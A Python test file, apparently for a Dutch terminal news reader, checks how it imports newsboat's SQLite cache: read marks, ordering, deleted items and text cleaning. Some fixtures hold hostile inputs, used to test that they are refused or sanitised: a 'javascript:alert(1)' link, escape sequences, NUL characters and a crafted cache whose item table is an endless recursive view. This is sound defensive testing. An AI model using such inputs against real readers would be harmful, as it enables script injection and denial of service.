    assert sources.load_config().browser is None


# -- newsboat's cache: the articles a newsboat user has, and what they read ------------------------

NEWSBOAT_SCHEMA = (  # as newsboat 2.x makes its cache.db
    "CREATE TABLE rss_feed (rssurl VARCHAR(1024) PRIMARY KEY NOT NULL, url VARCHAR(1024) NOT NULL, title VARCHAR(1024) NOT NULL,"
    " lastmodified INTEGER(11) NOT NULL DEFAULT 0, is_rtl INTEGER(1) NOT NULL DEFAULT 0, etag VARCHAR(128) NOT NULL DEFAULT '')",
    "CREATE TABLE rss_item (id INTEGER PRIMARY KEY AUTOINCREMENT NOT NULL, guid VARCHAR(64) NOT NULL, title VARCHAR(1024) NOT NULL,"
    " author VARCHAR(1024) NOT NULL, url VARCHAR(1024) NOT NULL, feedurl VARCHAR(1024) NOT NULL, pubDate INTEGER NOT NULL,"
    " content VARCHAR(65535) NOT NULL, unread INTEGER(1) NOT NULL, enclosure_url VARCHAR(1024), enclosure_type VARCHAR(1024),"
    " enqueued INTEGER(1) NOT NULL DEFAULT 0, flags VARCHAR(52), deleted INTEGER(1) NOT NULL DEFAULT 0, base VARCHAR(128) NOT NULL DEFAULT '')",
)
MARCH_3 = 1772528400  # 2026-03-03 10:00 in Amsterdam


def newsboat_cache(path, feeds: dict[str, str], items: list[dict]) -> None:
    import sqlite3

    with sqlite3.connect(path) as cache:
        for statement in NEWSBOAT_SCHEMA:
            cache.execute(statement)
        cache.executemany("INSERT INTO rss_feed (rssurl, url, title) VALUES (?, ?, ?)", [(url, url, title) for url, title in feeds.items()])
        for item in items:
            row = {"guid": item["url"], "author": "", "pubDate": MARCH_3, "unread": 1, "deleted": 0, "content": "<p>Tekst.</p>", **item}
            cache.execute(f"INSERT INTO rss_item ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
    cache.close()


def test_import_newsboat_brings_the_articles_of_its_cache_read_where_they_were_read(cli, config, tmp_path):
    """A newsboat user switching kept their subscriptions, and lost every article and what they had read:
    the first fetch brought the feeds' items back, all unread, and those newsboat no longer had were gone."""
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text('https://nos.nl/rss "Binnenland"\nhttps://a.example/feed\nexec:~/bin/feed.sh\n', encoding="utf-8")
    newsboat_cache(
        folder / "cache.db",
        {"https://nos.nl/rss": "NOS Nieuws", "https://a.example/feed": "Omroep A", "https://gone.example/rss": "Opgezegd"},
        [
            {"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "unread": 0, "author": "ANP", "feedurl": "https://nos.nl/rss",
             "content": "<p>VLISSINGEN (ANP) - De dijk wordt versterkt.</p><h2>Werk</h2><p>Het werk duurt een jaar.</p>"},
            {"url": "https://nos.nl/veer", "title": "Veerboot vaart weer", "feedurl": "https://nos.nl/rss"},
            {"url": "https://nos.nl/weg", "title": "Verwijderd", "feedurl": "https://nos.nl/rss", "deleted": 1},
            {"url": "https://a.example/brug", "title": "Brug \x1b[31mdicht", "unread": 0, "feedurl": "https://a.example/feed"},
            {"url": "https://gone.example/oud", "title": "Oud bericht", "feedurl": "https://gone.example/rss"},
            {"url": "https://x.example/uit", "title": "Uit een programma", "feedurl": "exec:~/bin/feed.sh --token geheim"},
            {"url": "javascript:alert(1)", "title": "Geen adres", "feedurl": "https://a.example/feed"},
        ],
    )  # fmt: skip
    library = tmp_path / "library.sqlite"
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(library)})
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-3:] == [
        f"nieuws-tui: read 5 articles from {folder}/cache.db: 5 new, 0 updated, 0 already in the library; 2 marked read as in newsboat",
        "nieuws-tui: 1 article deleted in newsboat stays away",
        "nieuws-tui: left out 1 item of a feed that is no web address, or that is no article",
    ]
    entries = {entry.article.url: entry for entry in Library(library).entries()}
    # An item of no web address, at its feed's page as a fetch keeps it (feeds.urls.item_link): newsboat keeps it too.
    [unlinked] = [url for url in entries if page_url(url) == "https://a.example/feed"]
    assert entries.pop(unlinked).article.title == "Geen adres"
    assert {url: (e.article.section, e.article.source, e.read) for url, e in entries.items()} == {
        "https://nos.nl/dijk": ("Binnenland", "https://nos.nl/rss", True),  # the feed's tag in urls files it, as fetch does
        "https://nos.nl/veer": ("Binnenland", "https://nos.nl/rss", False),
        "https://a.example/brug": ("Omroep A", "https://a.example/feed", True),  # no tag: the feed's title
        "https://gone.example/oud": ("Opgezegd", "https://gone.example/rss", False),  # a feed since left: its articles stay
    }
    dike = Library(library).article(entries["https://nos.nl/dijk"].id)
    assert (dike.place, dike.lead, dike.published.isoformat()) == ("VLISSINGEN", "De dijk wordt versterkt.", "2026-03-03T10:00:00+01:00")
    assert entries["https://a.example/brug"].article.title == "Brug dicht"  # cleaned as every feed's text is
    assert "geheim" not in result.stderr


def test_importing_newsboats_cache_again_says_how_many_of_its_articles_stay_away_as_pruned(cli, config, tmp_path):
    """As import says them of a file: its counts left the pruned ones out without a word."""
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    items = [{"url": f"https://nos.nl/{name}", "title": title, "unread": 0, "feedurl": "https://nos.nl/rss"} for name, title in (("dijk", "Dijk versterkt"), ("veer", "Veerboot vaart weer"))]
    newsboat_cache(folder / "cache.db", {"https://nos.nl/rss": "NOS Nieuws"}, items)
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    assert "pruned 2 articles" in cli("prune", "--older-than", "30", env=env).stdout  # read, and dated March 2026
    again = cli("sources", "import-newsboat", env=env)
    assert again.stderr.splitlines()[-2:] == [
        f"nieuws-tui: read 0 articles from {folder}/cache.db: 0 new, 0 updated, 0 already in the library; 0 marked read as in newsboat",
        "nieuws-tui: 2 pruned articles stay away",
    ]


def test_importing_newsboats_cache_again_says_its_articles_are_already_in_the_library(cli, config, tmp_path):
    """A second import said `imported 2 articles …: 0 new, 0 updated`: nothing was imported, and where they went it
    did not say."""
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    items = [{"url": f"https://nos.nl/{name}", "title": title, "feedurl": "https://nos.nl/rss"} for name, title in (("dijk", "Dijk versterkt"), ("veer", "Veerboot vaart weer"))]
    newsboat_cache(folder / "cache.db", {"https://nos.nl/rss": "NOS Nieuws"}, items)
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    again = cli("sources", "import-newsboat", env=env)
    assert again.stderr.splitlines()[-1] == f"nieuws-tui: read 2 articles from {folder}/cache.db: 0 new, 0 updated, 2 already in the library; 0 marked read as in newsboat"
    dutch = cli("sources", "import-newsboat", env={**env, **speaking(LANGUAGE="nl")})
    assert dutch.stderr.splitlines()[-1] == f"nieuws-tui: 2 artikelen ingelezen uit {folder}/cache.db: 0 nieuw, 0 bijgewerkt, 2 al in de bibliotheek; 0 als gelezen gemarkeerd, zoals in newsboat"


def test_a_cache_that_is_no_newsboat_cache_is_named_in_one_line_and_the_sources_stay(cli, config, tmp_path):
    (tmp_path / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    (tmp_path / "cache.db").write_bytes(b"SQLite format 3\x00" + b"\xff" * 4096)
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")})
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.splitlines()[-1].startswith(f"nieuws-tui: error: {tmp_path}/cache.db: not newsboat's cache, or damaged (")
    assert [source.url for source in sources.load_config().sources] == ["https://nos.nl/rss"]


def _newsboat_reloaded(tmp_path, httpserver, read: str, feed: str | None = None) -> dict[str, str]:
    """newsboat's own cache of a feed served here (feedkit's RSS2, else `feed`), in which its reader read the item at
    `read`; the environment of nieuws-tui's commands for a newsboat user in `tmp_path`."""
    from feedkit import RSS2

    newsboat = require_tool("newsboat")
    httpserver.expect_request("/feed").respond_with_data(feed or RSS2, content_type="application/rss+xml")
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text(f'{httpserver.url_for("/feed")} "Regio"\n', encoding="utf-8")
    (folder / "config").write_text("", encoding="utf-8")
    reload = [newsboat, "-u", str(folder / "urls"), "-c", str(folder / "cache.db"), "-C", str(folder / "config"), "-x", "reload"]
    subprocess.run(reload, check=True, capture_output=True, timeout=60, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"})
    _read_in_newsboat(folder / "cache.db", read)  # as newsboat marks an article read that its reader opened
    # newsboat dates an undated item by the whole second of its reload; a fetch in that same second sees the item
    # a microsecond before it (its place in the feed: records_in_order), which is a change of when it was first seen.
    reloaded = int(time.time())
    while int(time.time()) == reloaded:
        time.sleep(0.01)
    return {"NIEUWS_TUI_CONFIG": str(tmp_path / "config" / "config.toml"), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}


def test_what_newsboat_read_stays_read_when_nieuws_tui_fetches_the_same_feed(cli, config, tmp_path, httpserver):
    """End to end, with newsboat's own cache: newsboat fetched the feed and its reader read one article; after the
    import, the first fetch of the same feed brings nothing new and leaves that one read."""
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/dijk")
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    fetched = cli("fetch", env=env)
    assert fetched.returncode == 0, fetched.stderr
    assert "new=0 updated=0" in fetched.stdout
    entries = Library(tmp_path / "library.sqlite").entries()
    assert sorted((e.article.url, e.article.section, e.read) for e in entries) == [("http://example.org/dijk", "Regio", True), ("http://example.org/veer", "Regio", False)]


def test_items_of_one_date_are_listed_in_newsboats_order_and_a_fetch_leaves_them_as_imported(cli, config, tmp_path, httpserver):
    """End to end: newsboat dates the undated items of a feed by its reload, and lists them in the feed's order (it
    stores them last to first, and lists the last stored first); the import listed them by the hashes of their ids."""
    items = "".join(f"<item><title>Stap {n} van 6</title><link>http://example.org/stap{n}</link></item>" for n in range(1, 7))
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/stap1", feed=f"<rss version='2.0'><channel><title>t</title>{items}</channel></rss>")
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    in_feed_order = [f"Stap {n} van 6" for n in range(1, 7)]
    assert [entry.article.title for entry in Library(tmp_path / "library.sqlite").entries()] == in_feed_order
    fetched = cli("fetch", env=env)
    assert fetched.returncode == 0, fetched.stderr
    assert "new=0 updated=0" in fetched.stdout
    assert [entry.article.title for entry in Library(tmp_path / "library.sqlite").entries()] == in_feed_order


def test_items_of_one_date_are_listed_the_last_newsboat_stored_first_at_their_date(tmp_path):
    """In order at their date itself (a microsecond before it, the list said `09:59` of an item of 10:00), and the same
    when imported again."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    stored = [{"url": f"https://nos.nl/{n}", "title": f"Bericht {n}", "feedurl": "https://nos.nl/rss"} for n in range(1, 7)]
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [*stored, {**DIKE, "pubDate": MARCH_3 - 60}])
    import_newsboat_cache(library, cache, lambda url: None)
    entries = Library(library.path).entries()
    assert [entry.article.title for entry in entries] == [f"Bericht {n}" for n in range(6, 0, -1)] + [DIKE["title"]]
    assert {entry.sort_time for entry in entries[:6]} == {datetime.fromtimestamp(MARCH_3, AMSTERDAM)}
    again = import_newsboat_cache(Library(library.path), cache, lambda url: None).added
    assert (again.new, again.updated, again.unchanged) == (0, 0, 7)
    with closing(sqlite3.connect(cache)) as forgetting, forgetting:  # newsboat forgets its oldest item of that date
        forgetting.execute("DELETE FROM rss_item WHERE title = 'Bericht 1'")
    after = import_newsboat_cache(Library(library.path), cache, lambda url: None).added
    assert (after.new, after.updated, after.unchanged) == (0, 0, 6)  # the others keep their moments
    assert [entry.article.title for entry in Library(library.path).entries()][:6] == [f"Bericht {n}" for n in range(6, 0, -1)]


def test_items_of_one_date_on_both_sides_of_a_million_ids_are_listed_in_newsboats_order(tmp_path):
    """Past a million ids, each item's place was counted from its own million: of one date, the items newsboat stored
    as 1,000,000 and after were listed as stored before 999,998 and 999,999."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    stored = [{"id": 1_000_000 + n, "url": f"https://nos.nl/{n}", "title": f"Bericht {n}", "feedurl": "https://nos.nl/rss"} for n in range(-2, 3)]
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, stored)
    import_newsboat_cache(library, cache, lambda url: None)
    assert [entry.article.title for entry in Library(library.path).entries()] == [f"Bericht {n}" for n in range(2, -3, -1)]
    again = import_newsboat_cache(Library(library.path), cache, lambda url: None).added
    assert (again.new, again.updated, again.unchanged) == (0, 0, 5)


def test_items_past_a_million_ids_keep_their_moments_and_order_when_newsboat_forgets_those_below_it(tmp_path):
    """Counted from the first of their date's million: once newsboat forgot 999,998 and 999,999, an import again
    moved the others a second earlier, counted them updated, and listed 1,000,000 above 1,000,002."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    stored = [{"id": 1_000_000 + n, "url": f"https://nos.nl/{n}", "title": f"Bericht {n}", "feedurl": "https://nos.nl/rss"} for n in range(-2, 3)]
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, stored)
    import_newsboat_cache(library, cache, lambda url: None)
    with closing(sqlite3.connect(cache)) as forgetting, forgetting:
        forgetting.execute("DELETE FROM rss_item WHERE id < 1000000")
    again = import_newsboat_cache(Library(library.path), cache, lambda url: None).added
    assert (again.new, again.updated, again.unchanged) == (0, 0, 3)
    assert [entry.article.title for entry in Library(library.path).entries()] == [f"Bericht {n}" for n in range(2, -3, -1)]


@pytest.mark.parametrize("ahead", [0, 3600], ids=["dated-this-second", "dated-ahead"])
def test_items_dated_now_or_ahead_are_listed_in_newsboats_order_too(tmp_path, ahead):
    """Items dated in the second of the import or after it (newsboat dates an undated item by its reload; a feed's
    clock may be ahead) were each first seen as many microseconds after the import's moment as their place, which
    is later than any moment seen: all were seen at the import's moment, and listed by the hashes of their ids."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    dated = int(time.time()) + ahead
    # Far into newsboat's ids: each half a second or more after the import's moment.
    stored = [{"id": 500_000 + n, "url": f"https://nos.nl/{n}", "title": f"Bericht {n}", "feedurl": "https://nos.nl/rss", "pubDate": dated} for n in range(1, 7)]
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, stored)
    import_newsboat_cache(library, cache, lambda url: None)
    assert [entry.article.title for entry in Library(library.path).entries()] == [f"Bericht {n}" for n in range(6, 0, -1)]
    again = import_newsboat_cache(Library(library.path), cache, lambda url: None).added
    assert (again.new, again.updated, again.unchanged) == (0, 0, 6)


def test_an_item_of_plain_text_is_the_same_article_fetched_and_imported_from_newsboats_cache(cli, config, tmp_path, httpserver):
    """newsboat keeps an Atom summary of type text as it came, `Eerste <alinea>.`; the fetch read it as HTML and
    dropped `<alinea>`, and a fetch and an import of the same item then replaced each other's text on every run."""
    atom = """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Blog</title><id>urn:b</id>
<updated>2026-03-03T10:00:00Z</updated><entry><id>urn:1</id><title type="text">Een &lt;kop&gt;</title><updated>2026-03-03T10:00:00Z</updated>
<link href="http://example.org/tekst"/><summary type="text">Eerste &lt;alinea&gt;.</summary></entry></feed>"""
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/tekst", feed=atom)
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    fetched = cli("fetch", env=env)
    assert fetched.returncode == 0, fetched.stderr
    assert "new=0 updated=0" in fetched.stdout
    [entry] = Library(tmp_path / "library.sqlite").full_entries(Library(tmp_path / "library.sqlite").entries())
    assert (entry.article.title, entry.article.lead) == ("Een <kop>", "Eerste <alinea>.")


def test_a_title_in_newsboats_cache_with_a_tag_written_as_text_is_imported_whole(tmp_path):
    """newsboat keeps an RSS title as it came, `Gebruik <script> niet`, and shows it whole: the import read `Gebruik`."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    titles = ["Gebruik <script> niet", "Koers a<b of b>a?", "<b>Vet</b>"]
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{"url": f"https://nos.nl/{n}", "title": title, "feedurl": "https://nos.nl/rss"} for n, title in enumerate(titles)])
    import_newsboat_cache(library, cache, lambda url: None)
    assert sorted(entry.article.title for entry in Library(library.path).entries()) == sorted([*titles[:2], "Vet"])


def test_a_noncharacter_in_newsboats_cache_eats_no_letter(tmp_path):
    """The cache's text never passes a feed's repair, which deletes the marks a text writes itself: read as an ESC's
    mark, U+FDD0 ate the letter after it ('Ga eeland')."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    item = {"url": "https://nos.nl/1", "title": "Ga \ufdd0Zeeland", "content": "<p>Hallo &#xFDD1;wereld \ufdd0[31mrood.</p>", "feedurl": "https://nos.nl/rss"}
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [item])
    import_newsboat_cache(library, cache, lambda url: None)
    [entry] = Library(library.path).select(text=True)
    assert (entry.article.title, entry.article.lead) == ("Ga Zeeland", "Hallo wereld [31mrood.")


def test_an_article_marked_unread_after_the_import_stays_unread_when_newsboats_cache_is_imported_again(cli, config, tmp_path, httpserver):
    """End to end, with newsboat's own cache: importing again marked read again what the reader had marked unread."""
    env = _newsboat_reloaded(tmp_path, httpserver, read="http://example.org/dijk")
    assert cli("sources", "import-newsboat", env=env).returncode == 0
    [dike] = [entry.id for entry in Library(tmp_path / "library.sqlite").entries() if entry.read]
    assert cli("mark", "unread", dike, env=env).returncode == 0
    again = cli("sources", "import-newsboat", env=env)
    assert again.returncode == 0, again.stderr
    assert "0 updated, 2 already in the library; 0 marked read as in newsboat" in again.stderr
    assert [entry.read for entry in Library(tmp_path / "library.sqlite").entries()] == [False, False]


def test_an_item_of_megabytes_in_a_cache_is_read_in_part_and_the_others_are_imported(cli, config, tmp_path):
    (tmp_path / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    newsboat_cache(
        tmp_path / "cache.db",
        {"https://nos.nl/rss": "NOS"},
        [
            {"url": "https://nos.nl/groot", "title": "Groot " * 1_000_000, "content": "<p>" + "Tekst. " * 1_000_000, "feedurl": "https://nos.nl/rss"},
            {"url": "https://nos.nl/gewoon", "title": "Gewoon", "feedurl": "https://nos.nl/rss"},
        ],
    )
    env = {"NIEUWS_TUI_CONFIG": str(config), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env=env)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "https://nos.nl/gewoon" in {entry.article.url for entry in Library(tmp_path / "library.sqlite").entries()}


ENDLESS_ITEMS = (  # rows without end, which SQLite works through in one call of its C code, Python's handlers held off
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
    " SELECT x id, 'g' || x guid, 'T' title, '' author, 'http://example.org/a' || x url, 'http://example.org/feed' feedurl,"
    " 1700000000 pubDate, 'b' content, 1 unread, 0 deleted, NULL base, NULL flags, NULL enclosure_url, NULL enclosure_type FROM c"
)


def test_a_cache_whose_items_are_a_view_without_end_is_refused_in_one_line_at_once(cli, config, tmp_path):
    """A hostile cache.db's rss_item was a view of endless rows: the import ran for ever, SQLite's temp file grew to
    18 GB, and neither Ctrl-C nor SIGTERM stopped it."""
    (tmp_path / "urls").write_text('http://example.org/feed "news"\n', encoding="utf-8")
    with closing(sqlite3.connect(tmp_path / "cache.db")) as cache:
        cache.executescript(f"CREATE TABLE rss_feed (rssurl, url, title); CREATE VIEW rss_item AS {ENDLESS_ITEMS};")
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}, timeout=20)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.splitlines()[-1] == f"nieuws-tui: error: {tmp_path}/cache.db: not newsboat's cache: its rss_item is no table (a view or virtual table is not read)"
    assert Library(tmp_path / "library.sqlite").entries() == []


@pytest.mark.parametrize(("stop", "status"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_signal_during_a_long_read_of_the_cache_ends_the_import_at_once_storing_nothing(config, tmp_path, stop, status):
    """SIGTERM and Ctrl-C were never heard while SQLite read the cache (its C code runs no Python handler): only kill -9
    ended an import that read for ever. A query without end stands in for a long read of a large cache."""
    (tmp_path / "urls").write_text("http://example.org/feed\n", encoding="utf-8")
    newsboat_cache(tmp_path / "cache.db", {"http://example.org/feed": "Voorbeeld"}, [{"url": "http://example.org/a", "title": "A", "feedurl": "http://example.org/feed"}])
    endless = f"{ENDLESS_ITEMS} WHERE x < 0"  # no row ever comes out of SQLite
    program = (
        "import sys, feeds.imports as imports; from tui.cli import main;"
        f" imports._CACHE_LINKS = {endless!r}; sys.exit(main(['sources', 'import-newsboat', {str(tmp_path / 'urls')!r}]))"
    )
    env = {**os.environ, "NIEUWS_TUI_CONFIG": str(config), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite"), "HOME": str(tmp_path)}
    process = subprocess.Popen([sys.executable, "-c", program], env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        added = process.stderr.readline()  # the sources are added: the cache is read next
        time.sleep(0.5)
        process.send_signal(stop)
        _out, err = process.communicate(timeout=5)
        err = added + err
    finally:
        process.kill()
        process.wait()
    assert process.returncode == status and "Traceback" not in err, err
    assert err.splitlines()[-1] == f"nieuws-tui: interrupted: no article of {tmp_path}/cache.db is stored"
    assert Library(tmp_path / "library.sqlite").entries() == []


def test_a_read_of_the_cache_past_its_deadline_is_given_up_in_one_line_storing_nothing(tmp_path, monkeypatch):
    from feeds import imports

    newsboat_cache(tmp_path / "cache.db", {"http://example.org/feed": "Voorbeeld"}, [{"url": "http://example.org/a", "title": "A", "feedurl": "http://example.org/feed"}])
    monkeypatch.setattr(imports, "CACHE_DEADLINE", 0.5)
    monkeypatch.setattr(imports, "_CACHE_LINKS", f"{ENDLESS_ITEMS} WHERE x < 0")
    library = Library(tmp_path / "library.sqlite")
    started = time.monotonic()
    with pytest.raises(imports.UnreadableCache) as refused:
        imports.import_newsboat_cache(library, tmp_path / "cache.db", lambda url: None)
    assert time.monotonic() - started < 5
    assert str(refused.value) == f"{tmp_path}/cache.db: gave up at the deadline of 0.5 s for reading newsboat's cache; none of its articles is stored"
    assert Library(library.path).entries() == []


def test_a_cache_of_more_items_than_any_newsboat_keeps_is_refused_naming_the_bound(tmp_path, monkeypatch):
    from feeds import imports

    items = [{"url": f"http://example.org/{n}", "title": "A", "feedurl": "http://example.org/feed"} for n in range(3)]
    newsboat_cache(tmp_path / "cache.db", {"http://example.org/feed": "Voorbeeld"}, items)
    monkeypatch.setattr(imports, "MAX_CACHE_ITEMS", 2)
    library = Library(tmp_path / "library.sqlite")
    with pytest.raises(imports.UnreadableCache) as refused:
        imports.import_newsboat_cache(library, tmp_path / "cache.db", lambda url: None)
    assert str(refused.value) == f"{tmp_path}/cache.db: holds more than 2 items, more than any newsboat keeps; none of them is imported"
    assert Library(library.path).entries() == []


def test_a_nul_in_a_title_in_the_cache_is_left_out_and_what_follows_it_kept(tmp_path):
    """SQLite's substr ends text at a NUL: `T<escape>RED<NUL>NUL evil` was imported as "TRED"."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    item = {"url": "https://nos.nl/dijk", "title": "T\x1b[31mRED\0NUL evil", "author": "A\0B", "content": "<p>Voor\0na</p>", "feedurl": "https://nos.nl/rss"}
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS\0Nieuws"}, [item])
    import_newsboat_cache(library, cache, lambda url: None)
    [entry] = library.entries()
    article = library.article(entry.id)
    assert (article.title, article.section) == ("TREDNUL evil", "NOSNieuws")
    assert "na" in article.lead and "\0" not in article.lead



def test_an_article_the_library_has_that_was_deleted_in_newsboat_stays_with_its_star(tmp_path):
    """Only what the library does not have is kept away: an article the user keeps (and starred) in nieuws-tui was
    removed from it, star and all, because they had deleted it in newsboat, which prune never does to a starred one."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{"url": "https://nos.nl/dijk", "title": "Dijk versterkt", "feedurl": "https://nos.nl/rss"}])
    import_newsboat_cache(library, cache, lambda url: None)  # (or a fetch of the feed: the library has it)
    [kept] = library.entries()
    library.set_state([kept.id], starred=True)
    with sqlite3.connect(cache) as connection:  # then deleted in newsboat
        connection.execute("UPDATE rss_item SET deleted = 1")
    connection.close()
    assert import_newsboat_cache(library, cache, lambda url: None).deleted == 0  # (none is said to stay away)
    assert [(entry.article.url, entry.starred) for entry in Library(tmp_path / "library.sqlite").entries()] == [("https://nos.nl/dijk", True)]



def test_an_item_deleted_in_newsboat_is_kept_away_without_a_look_at_the_validators(tmp_path):
    """Keeping away an item deleted in newsboat went through prune, which forgot what its page had answered: an item
    linking to a source's own address (its section page, the site) took that source's validators, and validators
    damaged (which check says leave the articles intact) failed the import, said as a cache that is no newsboat's."""
    from storekit import damage_table

    from feeds import import_newsboat_cache
    from feeds.store.writer import Validator

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {"https://nos.nl/rss": "NOS"}, [{"url": "https://nos.nl/nieuws", "title": "Alle nieuws", "feedurl": "https://nos.nl/rss", "deleted": 1}])
    with library.writing() as writer:  # as a fetch of the section page left them
        writer.note_validators({"https://nos.nl/nieuws": Validator('"n"', None)})
    assert import_newsboat_cache(library, cache, lambda url: None).deleted == 1
    assert Library(library.path).validators() == {"https://nos.nl/nieuws": Validator('"n"', None)}
    damage_table(library, "validators")
    newsboat_cache(tmp_path / "again.db", {"https://nos.nl/rss": "NOS"}, [{"url": "https://nos.nl/weg", "title": "Weg", "feedurl": "https://nos.nl/rss", "deleted": 1}])
    assert import_newsboat_cache(Library(library.path), tmp_path / "again.db", lambda url: None).deleted == 1


def test_a_feed_title_in_the_cache_files_its_articles_as_one_clean_line(tmp_path):
    """newsboat stores a feed's title as the feed gave it: escape sequences and line breaks became the section's name."""
    from feeds import import_newsboat_cache

    cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
    newsboat_cache(cache, {"https://a.example/feed": "Omroep \x1b[31mA\nZeeland\u202e"}, [{"url": "https://a.example/brug", "title": "Brug", "feedurl": "https://a.example/feed"}])
    import_newsboat_cache(library, cache, lambda url: None)
    assert [entry.article.section for entry in library.entries()] == ["Omroep A Zeeland"]



def test_the_cache_newsboats_config_names_is_the_one_imported(cli, config, tmp_path):
    """newsboat keeps its cache where `cache-file` says (`~` its home folder): the import looked beside the urls file
    only, found none, and brought no article and no read mark, without a word."""
    folder = tmp_path / ".newsboat"
    folder.mkdir()
    (folder / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    (folder / "config").write_text('cache-file "~/elders/nieuws.db"\n', encoding="utf-8")
    (tmp_path / "elders").mkdir()
    newsboat_cache(tmp_path / "elders" / "nieuws.db", {"https://nos.nl/rss": "NOS"}, [{"url": "https://nos.nl/dijk", "title": "Dijk", "unread": 0, "feedurl": "https://nos.nl/rss"}])
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}
    result = cli("sources", "import-newsboat", env=env)
    assert result.returncode == 0, result.stderr
    assert f"read 1 article from {tmp_path}/elders/nieuws.db: 1 new, 0 updated, 0 already in the library; 1 marked read as in newsboat" in result.stderr
    assert [(entry.article.url, entry.read) for entry in Library(tmp_path / "library.sqlite").entries()] == [("https://nos.nl/dijk", True)]


def test_a_cache_file_name_no_system_takes_is_named_in_one_line(cli, config, tmp_path):
    folder = tmp_path / "newsboat"
    folder.mkdir()
    (folder / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    (folder / "config").write_text(f'cache-file "{tmp_path}/{"c" * 5000}.db"\n', encoding="utf-8")
    result = cli("sources", "import-newsboat", str(folder / "urls"), env={"NIEUWS_TUI_CONFIG": str(config), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")})
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.splitlines()[-1].startswith(f"nieuws-tui: error: {tmp_path}/ccc") and "cannot read newsboat's cache" in result.stderr


def test_a_fifo_named_cache_db_is_named_in_one_line_without_a_hang(cli, config, tmp_path):
    (tmp_path / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    os.mkfifo(tmp_path / "cache.db")
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config), "NIEUWS_TUI_DB": str(tmp_path / "library.sqlite")}, timeout=20)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.splitlines()[-1] == f"nieuws-tui: error: {tmp_path}/cache.db: cannot read newsboat's cache (not a regular file (a FIFO))"


